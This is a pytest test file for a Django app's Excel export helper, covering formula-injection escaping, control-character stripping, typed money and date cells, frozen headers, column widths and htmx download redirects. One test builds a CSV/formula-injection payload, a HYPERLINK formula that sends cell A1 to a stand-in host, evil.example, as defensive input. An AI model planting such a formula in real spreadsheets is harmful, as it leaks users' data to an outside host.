"""core.exports writes every string as text: no formula (issue 11 finding 4), no 500 on a control character."""

from __future__ import annotations

import io
from collections.abc import Iterator
from typing import Any

import pytest
from openpyxl import load_workbook

from anze.core.exports import FORMULA_TRIGGERS, xlsx_response


def _cells(rows: list[list[object]]) -> list[Any]:
    response = xlsx_response("测试", ["列"] * len(rows[0]), rows)
    sheet = load_workbook(io.BytesIO(response.getvalue())).active
    return list(sheet[2])


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
def test_a_string_starting_like_a_formula_is_written_as_quoted_text(trigger: str) -> None:
    text = f'{trigger}HYPERLINK("http://evil.example/?"&A1,"点我")'
    (cell,) = _cells([[text]])
    assert cell.data_type == "s" and cell.quotePrefix
    assert cell.value.lstrip("\r\n") == text.lstrip("\r\n")  # XML keeps a CR as a line break


def test_plain_text_numbers_and_dates_keep_their_types() -> None:
    plain, number, empty = _cells([["泉州鸿盛建筑", 3500, None]])
    assert plain.value == "泉州鸿盛建筑" and plain.data_type == "s" and not plain.quotePrefix
    assert number.value == 3500 and number.data_type == "n"
    assert empty.value is None


def test_a_control_character_in_a_name_is_dropped_rather_than_failing_the_export() -> None:
    (cell,) = _cells([["鸿盛\x00建筑\x07"]])
    assert cell.value == "鸿盛建筑"


# --- issue 12 point 7: typed values, frozen header, widths that fit ----------------------------------------------
def _sheet(rows: list[list[object]], headers: list[str]) -> Any:
    response = xlsx_response("测试", headers, rows)
    return load_workbook(io.BytesIO(response.getvalue())).active


def test_money_and_dates_are_typed_cells_with_formats_and_the_header_is_frozen() -> None:
    from datetime import UTC, date, datetime
    from decimal import Decimal

    from django.utils import timezone

    moment = timezone.make_aware(datetime(2026, 12, 2, 0, 37, 45, 392949), UTC)
    sheet = _sheet([[Decimal("3500.00"), moment, date(2027, 1, 1)]], ["保费（元）", "申请时间", "保险起期"])
    assert sheet.freeze_panes == "A2"
    money, when, day = sheet[2]
    assert money.value == 3500 and money.data_type == "n" and money.number_format == "#,##0.00"
    assert when.value == datetime(2026, 12, 2, 8, 37, 45)  # Beijing time, to the second, as the list shows it
    assert when.number_format == "yyyy-mm-dd hh:mm:ss"
    assert day.value == datetime(2027, 1, 1) and day.number_format == "yyyy-mm-dd"


def test_columns_are_as_wide_as_what_they_hold() -> None:
    sheet = _sheet([["泉州鸿盛建筑工程有限公司晋江分公司", "a"]], ["投保人", "x"])
    assert sheet.column_dimensions["A"].width >= 2 * len("泉州鸿盛建筑工程有限公司晋江分公司")
    assert 8 <= sheet.column_dimensions["B"].width <= 12


@pytest.mark.django_db
def test_every_export_freezes_its_header_and_writes_no_amount_or_date_as_text() -> None:
    """Every export URL of every side, as its 管理员 (the accounts' export has a row: the 管理员 itself)."""
    import re

    from django.test import Client
    from django.urls import URLPattern, URLResolver, get_resolver

    from anze.core.sides import SIDE_PREFIX, Side
    from anze.core.testing import factories

    def routes(patterns: list, prefix: str = "") -> Iterator[str]:
        for entry in patterns:
            if isinstance(entry, URLResolver):
                yield from routes(entry.url_patterns, prefix + str(entry.pattern))
            elif isinstance(entry, URLPattern) and str(entry.pattern).endswith("export/"):
                yield "/" + prefix + str(entry.pattern)

    formatted = re.compile(r"^\d{4}-\d{2}-\d{2}|^-?[\d,]+\.\d{2}(万元)?$")
    exports = list(routes(get_resolver().url_patterns))
    assert len(exports) >= 8
    checked = 0
    for side in Side:
        client = Client()
        client.force_login(factories.user(factories.organisation(side), admin=True))
        for url in (u for u in exports if u.startswith(f"/{SIDE_PREFIX[side]}/") and "<" not in u):
            response = client.get(url)
            assert response.status_code == 200, url
            sheet = load_workbook(io.BytesIO(response.getvalue())).active
            assert sheet.freeze_panes == "A2", url
            texts = [c.value for row in sheet.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
            assert not [t for t in texts if formatted.match(t)], url
            checked += 1
    assert checked >= 8


@pytest.mark.django_db
def test_an_export_asked_through_htmx_sends_the_browser_to_the_file() -> None:
    """The toolbar's 导出 asks through htmx (a large list answers with a dialog): an export built in the request
    answers with a redirect to itself, which the browser downloads (here the accounts' own, not a 下载中心 list)."""
    from django.test import Client

    from anze.core.sides import Side
    from anze.core.testing import factories

    client = Client()
    client.force_login(factories.user(factories.organisation(Side.INSURER), admin=True))
    url = "/insurer/system/users/export/?status=1"
    response = client.get(url, headers={"HX-Request": "true"})
    assert response.status_code == 204 and response["HX-Redirect"] == url
    assert "attachment" in client.get(url)["Content-Disposition"]
